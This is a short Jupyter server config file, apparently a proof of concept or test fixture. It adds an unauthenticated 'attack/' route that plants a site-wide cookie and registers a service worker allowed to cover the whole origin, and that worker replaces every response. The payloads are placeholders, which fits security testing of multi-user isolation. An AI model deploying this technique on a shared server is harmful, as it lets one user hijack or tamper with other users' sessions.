# A student's ~/.jupyter/jupyter_server_config.py: pages of the student's own, open to everybody, on the student's server.
from jupyter_server.auth.decorator import allow_unauthenticated
from jupyter_server.serverapp import ServerWebApplication
from tornado import web


class Page(web.RequestHandler):
    @allow_unauthenticated
    def get(self, name):
        self.set_header("Service-Worker-Allowed", "/")
        self.add_header("Set-Cookie", "planted=1; Path=/")
        if name == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.finish("self.addEventListener('fetch', e => e.respondWith(new Response('replaced')))")
        else:
            self.set_header("Content-Type", "text/html")
            self.finish("<!DOCTYPE html><title>homework</title><p>Nothing to see here")


handlers = ServerWebApplication.init_handlers


def init_handlers(self, services, settings):
    return [(settings["base_url"] + "attack/(.*)", Page), *handlers(self, services, settings)]


ServerWebApplication.init_handlers = init_handlers
